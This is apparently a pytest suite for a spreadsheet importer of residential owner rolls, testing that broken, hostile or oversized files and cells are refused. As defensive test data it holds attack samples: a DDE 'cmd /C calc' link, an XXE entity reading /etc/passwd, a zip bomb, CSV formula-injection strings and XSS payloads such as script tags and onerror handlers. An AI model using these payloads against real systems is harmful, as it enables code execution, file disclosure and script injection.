"""Files that are broken, hostile or no roll at all are refused as a whole; hostile cells are refused one by one."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import xlsxwriter

from owners.roll import archive, biff
from owners.roll.files import open_roll
from owners.roll.tables import FileRefused
from tests.owners.rolls import DATA, HEADER, PAPER, YANGGUANG, kinds, read, row, write_csv, write_xlsx

GOOD = [HEADER, row()]


def rewrite(source: Path, target: Path, change: Callable[[str, bytes], bytes | None], **extra: bytes) -> Path:
    """Copies a workbook with some of its parts changed, left out or added (`extra`, dots as `__`)."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = change(name, old.read(name))
            if content is not None:
                new.writestr(name, content)
        for name, content in extra.items():
            new.writestr(name.replace("__", "/"), content)
    return target


def same(_name: str, content: bytes) -> bytes:
    return content


@pytest.fixture
def workbook(tmp_path: Path) -> Path:
    return write_xlsx(tmp_path / "good.xlsx", GOOD)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"%PDF-1.7 ...",
        b"\x89PNG\r\n\x1a\n",
        b"<html><table><tr><td>1</td></tr></table></html>",
        b"PK\x03\x04 not really",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 3000,
        b"\xff\xfe\x00\xd8\x00\x00",
        b"\x81\xff\xfe\xfd" * 50,
        b"a,b\n" * 10,
        b'"' + b"x" * 200_000,
    ],
)
@pytest.mark.parametrize("suffix", [".xlsx", ".xls", ".csv"])
def test_what_is_no_roll_is_refused_with_a_sentence(tmp_path: Path, content: bytes, suffix: str) -> None:
    path = tmp_path / f"roll{suffix}"
    path.write_bytes(content)
    with pytest.raises(FileRefused) as refusal:
        read(path)
    assert str(refusal.value.sentence)


def test_a_missing_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(FileRefused):
        open_roll(tmp_path / "nowhere.xlsx")


def test_the_content_decides_and_not_the_name(tmp_path: Path, workbook: Path) -> None:
    path = tmp_path / "roll.csv"
    path.write_bytes(workbook.read_bytes())
    assert len(read(path).rows) == 1


@pytest.mark.parametrize("length", [200, 1000, 3000])
def test_a_truncated_workbook_is_refused(tmp_path: Path, workbook: Path, length: int) -> None:
    path = tmp_path / "cut.xlsx"
    path.write_bytes(workbook.read_bytes()[:length])
    with pytest.raises(FileRefused):
        read(path)


@pytest.mark.parametrize(
    "name", ["xl__vbaProject.bin", "xl__macrosheets__sheet1.xml", "xl__activeX__activeX1.bin"]
)
def test_a_workbook_with_macros_is_refused(tmp_path: Path, workbook: Path, name: str) -> None:
    with pytest.raises(FileRefused):
        read(rewrite(workbook, tmp_path / "macro.xlsx", same, **{name: b"x"}))


def test_a_workbook_linked_to_another_program_is_refused(tmp_path: Path, workbook: Path) -> None:
    link = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    with pytest.raises(FileRefused):
        read(rewrite(workbook, tmp_path / "dde.xlsx", same, **{"xl__externalLinks__externalLink1.xml": link}))


def test_values_from_another_workbook_are_read_as_stored(tmp_path: Path, workbook: Path) -> None:
    extra = {
        "xl__externalLinks__externalLink1.xml": b'<externalLink xmlns="x"><externalBook/></externalLink>'
    }
    assert len(read(rewrite(workbook, tmp_path / "link.xlsx", same, **extra)).rows) == 1


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/sharedStrings.xml"])
def test_a_document_type_with_entities_is_refused(tmp_path: Path, workbook: Path, part: str) -> None:
    doctype = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'

    def change(name: str, content: bytes) -> bytes:
        return content.replace(b"?>", b"?>" + doctype, 1) if name == part else content

    with pytest.raises(FileRefused):
        read(rewrite(workbook, tmp_path / "xxe.xlsx", change))


def test_a_zip_bomb_is_refused_before_it_is_unpacked_whole(tmp_path: Path, workbook: Path) -> None:
    bomb = rewrite(
        workbook, tmp_path / "bomb.xlsx", same, **{"xl__media__image1.png": b"\0" * (60 * 1024 * 1024)}
    )
    with pytest.raises(FileRefused):
        read(bomb)


def test_a_cell_at_the_end_of_the_sheet_does_not_make_room_for_billions(
    tmp_path: Path, workbook: Path
) -> None:
    def change(name: str, content: bytes) -> bytes:
        far = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
        return content.replace(b"</sheetData>", far) if name.endswith("sheet1.xml") else content

    with pytest.raises(FileRefused):
        read(rewrite(workbook, tmp_path / "far.xlsx", change))


def test_formatted_but_empty_cells_far_away_do_no_harm(tmp_path: Path, workbook: Path) -> None:
    def change(name: str, content: bytes) -> bytes:
        far = b'<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>'
        return content.replace(b"</sheetData>", far) if name.endswith("sheet1.xml") else content

    assert len(read(rewrite(workbook, tmp_path / "far.xlsx", change)).rows) == 1


def test_more_rows_than_a_community_can_have_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("owners.roll.delimited.MOST_ROWS", 2)
    with pytest.raises(FileRefused):
        read(write_csv(tmp_path / "roll.csv", [HEADER, row(), row("1-1-102"), row("1-1-103")]))


def test_hidden_sheets_are_not_read(tmp_path: Path) -> None:
    path = tmp_path / "roll.xlsx"
    with xlsxwriter.Workbook(str(path)) as workbook:
        for name in ("业主", "旧"):
            sheet = workbook.add_worksheet(name)
            for number, cells in enumerate(GOOD):
                sheet.write_row(number, 0, cells)
        sheet.hide()
    assert [one.sheet for one in read(path).rows] == ["业主"]


def test_formulas_count_by_their_result_and_broken_ones_are_errors(tmp_path: Path) -> None:
    path = tmp_path / "roll.xlsx"
    with xlsxwriter.Workbook(str(path)) as workbook:
        sheet = workbook.add_worksheet()
        for number, cells in enumerate([HEADER, *[row(f"1-1-10{n}", f"王{n}", phone="") for n in range(4)]]):
            sheet.write_row(number, 0, cells)
        sheet.write_formula("F2", "=A1&B1", None, "13800000101")
        sheet.write_formula("F3", "=VLOOKUP(A1,B:C,2,0)", None, "#N/A")
        sheet.write_formula("D4", '=HYPERLINK("http://x.example/"&A1,"王2")', None, "王2")
        sheet.write_formula("D5", "=cmd|'/C calc'!A0", None, "王3")
    found = read(path)
    assert found.rows[0].mobile == "13800000101"
    assert kinds(found) == {
        (3, "手机", "formula_error"),
        (4, "业主姓名", "formula_injection"),
        (5, "业主姓名", "formula_injection"),
    }


def test_a_formula_that_was_never_calculated_is_an_error(tmp_path: Path, workbook: Path) -> None:
    def change(name: str, content: bytes) -> bytes:
        empty = b'<row r="3"><c r="A3"><f>A2</f></c><c r="C3" t="inlineStr"><is><t>102</t></is></c></row></sheetData>'
        return content.replace(b"</sheetData>", empty) if name.endswith("sheet1.xml") else content

    assert (3, "楼栋", "formula_error") in kinds(read(rewrite(workbook, tmp_path / "new.xlsx", change)))


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("<script>alert(1)</script>", "html_markup"),
        ("王芳<img src=x onerror=alert(1)>", "html_markup"),
        ("</td>", "html_markup"),
        ("<!-- x -->", "html_markup"),
        ("＜script＞alert(1)＜/script＞", "html_markup"),
        ("javascript:alert(1)", "html_markup"),
        ("=cmd|' /C calc'!A0", "formula_injection"),
        ("=1+1", "formula_injection"),
        ("+cmd|' /C calc'!A0", "formula_injection"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "formula_injection"),
        ("-2+3+cmd|' /C calc'!A0", "formula_injection"),
        ("\t=HYPERLINK(1)", "formula_injection"),
        ("请勿\x07打扰", "control_char"),
        ("王\x00芳", "control_char"),
        ("王\u202e芳", "control_char"),
        ("字" * 3000, "text_too_long"),
        ("#REF!", "formula_error"),
    ],
)
def test_a_hostile_text_is_an_error_of_its_cell(tmp_path: Path, text: str, kind: str) -> None:
    rows = [[*HEADER, "备注"], [*row(), text]]
    assert kinds(read(write_csv(tmp_path / "roll.csv", rows))) == {(2, "备注", kind)}


@pytest.mark.parametrize(
    "text",
    [
        "面积<90㎡，来访>3人请提前登记 & 预约",
        "-- 见附件1",
        "+86 可打",
        "-B1 车位",
        "1 < 2",
        "a<b",
        "{{ 7*7 }} {% now %}",
        "第一行\n第二行",
        "👨‍👩‍👧 一家三口",
        "字" * 450,
        "C#",
    ],
)
def test_a_harmless_text_is_kept_exactly(tmp_path: Path, text: str) -> None:
    found = read(write_csv(tmp_path / "roll.csv", [[*HEADER, "备注"], [*row(), text]]))
    assert kinds(found) == set()
    assert found.rows[0].note == text


def test_a_long_name_is_an_error(tmp_path: Path) -> None:
    assert kinds(read(write_csv(tmp_path / "roll.csv", [HEADER, row(name="王" * 300)]))) == {
        (2, "业主姓名", "text_too_long")
    }


def test_an_old_excel_workbook_is_read_with_its_errors_and_merged_cells() -> None:
    found = read(DATA / "roll_old.xls")
    assert [one.unit_code for one in found.rows] == ["3-2-1201", "3-2-1201", "3-2-1202"]
    assert (found.rows[0].id_number, str(found.rows[0].moved_in)) == (PAPER, "2018-06-30")
    assert kinds(found) == {(5, "建筑面积", "formula_error"), (5, "手机", "formula_error")}


def record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def test_a_broken_formula_of_an_old_workbook_is_found_by_its_record() -> None:
    bound = record(0x0085, struct.pack("<IBB", 0, 0, 0) + b"\x01\x00S")
    start = len(bound)
    bound = record(0x0085, struct.pack("<IBB", start, 0, 0) + b"\x01\x00S")
    result = struct.pack("<HHH", 6, 2, 0) + b"\x02\x00\x2a\x00\x00\x00\xff\xff" + b"\0" * 6
    sheet = record(0x0809, b"\0" * 16) + record(0x0006, result)
    assert biff._sheets(bound + sheet) == [{(6, 2): "#N/A"}]


def test_an_old_workbook_with_a_password_is_refused() -> None:
    with pytest.raises(FileRefused):
        biff._sheets(record(0x0809, b"\0" * 16) + record(0x002F, b"\0" * 4))


def test_an_old_workbook_with_a_circular_chain_is_refused(tmp_path: Path) -> None:
    content = bytearray((DATA / "roll_old.xls").read_bytes())
    (first_fat,) = struct.unpack_from("<I", content, 76)
    for sector in range(128):
        struct.pack_into("<I", content, (first_fat + 1) * 512 + sector * 4, 0)
    path = tmp_path / "circle.xls"
    path.write_bytes(content)
    with pytest.raises(FileRefused):
        read(path)


def test_looking_into_a_clean_workbook_finds_nothing() -> None:
    assert archive.inspect(str(YANGGUANG), YANGGUANG.stat().st_size) == {"业主信息": {}}
